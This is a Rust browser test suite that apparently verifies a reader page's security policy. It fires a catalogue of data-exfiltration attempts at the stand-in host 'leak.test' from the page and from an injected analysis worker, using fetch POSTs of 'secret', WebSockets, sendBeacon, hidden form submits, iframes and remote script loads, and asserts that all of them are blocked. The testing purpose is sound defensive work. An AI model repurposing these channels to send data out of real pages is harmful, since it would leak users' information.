//! Nothing leaves: each way out is tried, from the page and from inside the analysis worker, on a host that sends the
//! policy and on one that sends no header at all.

use serde_json::{Value, json};

use super::driver::{Host, Page, on_host};

/// A name that no request of the page or the browser contains by itself.
const OUTSIDE: &str = "http://leak.test/";

/// Ways out that a page and a worker share. Each must fail by itself; none may be waited for longer than a moment.
const WAYS_OUT: &str = "
const outside = 'http://leak.test/';
const attempts = {
    fetch: () => fetch(outside + 'fetch', { mode: 'no-cors' }),
    post: () => fetch(outside + 'post', { method: 'POST', mode: 'no-cors', body: 'secret', keepalive: true }),
    otherPort: () => fetch('http://127.0.0.1:9/', { mode: 'no-cors' }),
    request: () => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = resolve;
        request.onerror = reject;
        request.open('GET', outside + 'request');
        request.send();
    }),
    socket: () => new Promise((resolve, reject) => {
        const socket = new WebSocket('ws://leak.test/socket');
        socket.onopen = resolve;
        socket.onerror = reject;
    }),
    events: () => new Promise((resolve, reject) => {
        const events = new EventSource(outside + 'events');
        events.onopen = resolve;
        events.onerror = reject;
    }),
    module: () => import(outside + 'module.js'),
};
const outcomes = {};
const tryAll = async () => {
    const patience = new Promise((resolve) => setTimeout(resolve, 3000, 'waits'));
    await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
        try { outcomes[name] = await Promise.race([attempt().then(() => 'went out'), patience]); }
        catch { outcomes[name] = 'blocked'; }
    }));
    return outcomes;
};
";

/// Ways out that need a document.
const WAYS_OUT_OF_A_DOCUMENT: &str = "
const element = (name, attributes) => () => new Promise((resolve, reject) => {
    const made = Object.assign(document.createElement(name), attributes);
    made.onload = resolve;
    made.onerror = reject;
    document.body.append(made);
});
Object.assign(attempts, {
    image: element('img', { src: outside + 'image.png' }),
    style: element('link', { rel: 'stylesheet', href: outside + 'style.css' }),
    script: async () => element('script', { src: outside + 'script.js' })(),
    media: element('video', { src: outside + 'video.mp4', autoplay: true }),
    font: () => new FontFace('leak', `url(${outside}font.woff2)`).load(),
    worker: async () => new Worker(outside + 'worker.js'),
    markup: async () => { document.body.innerHTML += '<p>markup</p>'; },
    // Later, because the driver lifts the ban for as long as its own script runs.
    code: () => new Promise((resolve, reject) => setTimeout(() => {
        try { resolve(new Function('return 1')()); } catch (error) { reject(error); }
    })),
});
";

/// Ways that tell the sender nothing of their fate; only the trap knows.
const SILENT_WAYS_OUT: &str = "
navigator.sendBeacon(outside + 'beacon', 'secret');
const frame = document.createElement('iframe');
frame.src = outside + 'frame';
document.body.append(frame);
const form = document.createElement('form');
form.action = outside + 'form';
form.target = 'elsewhere';
document.body.append(form);
form.submit();
const ping = document.createElement('link');
ping.rel = 'prefetch';
ping.href = outside + 'prefetch';
document.head.append(ping);
";

fn demand_all_blocked(outcomes: &Value, at_least: usize) {
    let outcomes = outcomes.as_object().expect("the attempts report");
    assert!(outcomes.len() >= at_least, "too few attempts: {outcomes:?}");
    for (attempt, outcome) in outcomes {
        assert_eq!(outcome, "blocked", "{attempt}: {outcomes:?}");
    }
}

/// The trap itself: a page without a policy is caught.
#[tokio::test(flavor = "multi_thread")]
async fn the_trap_catches_a_page_without_a_policy() {
    on_host(Host::Careful, "ja", |page| async move {
        page.visit("data:text/html,<p>no policy</p>").await;
        page.value(&format!("void fetch('{OUTSIDE}control', {{ mode: 'no-cors' }})")).await;
        assert!(page.trap().catches("leak.test/control").await, "caught only {:?}", page.trap().caught());
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_leaves_the_page() {
    on_host(Host::Careful, "ja", try_the_page).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_leaves_the_page_of_a_plain_host() {
    on_host(Host::Plain, "ja", try_the_page).await;
}

async fn try_the_page(page: Page) {
    let script = format!("(async () => {{ {WAYS_OUT} {WAYS_OUT_OF_A_DOCUMENT} return tryAll(); }})()");
    demand_all_blocked(&page.value(&script).await, 14);
    page.value(&format!("(() => {{ {WAYS_OUT} {SILENT_WAYS_OUT} }})()")).await;
    // The silent ones have had their time when a request that is sent after them has failed.
    page.value(&format!("(async () => {{ {WAYS_OUT} return tryAll(); }})()")).await;
    assert_eq!(page.trap().caught(), Vec::<String>::new(), "requests left the page");
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_leaves_the_worker() {
    on_host(Host::Careful, "ja", try_the_worker).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_leaves_the_worker_of_a_plain_host() {
    on_host(Host::Plain, "ja", try_the_worker).await;
}

/// Adds the attempts to the script of the real analysis worker before the page makes it.
async fn try_the_worker(page: Page) {
    let report = "tryAll().then((outcomes) => new BroadcastChannel('attempts').postMessage(outcomes));";
    let addition = format!("\n{{ {WAYS_OUT} {report} }}\n");
    let script = format!(
        "window.attempts = new Promise((resolve) => {{
            new BroadcastChannel('attempts').onmessage = (event) => resolve(event.data);
        }});
        window.Blob = class extends Blob {{
            constructor(parts, options) {{
                super(options?.type === 'text/javascript' ? [...parts, {addition}] : parts, options);
            }}
        }};",
        addition = json!(addition)
    );
    page.chromium("Page.addScriptToEvaluateOnNewDocument", json!({ "source": script })).await;
    page.reload().await;
    // The page makes its worker when there is something to read.
    page.read_article().await;
    demand_all_blocked(&page.value("window.attempts").await, 7);
    assert_eq!(page.trap().caught(), Vec::<String>::new(), "requests left the worker");
}
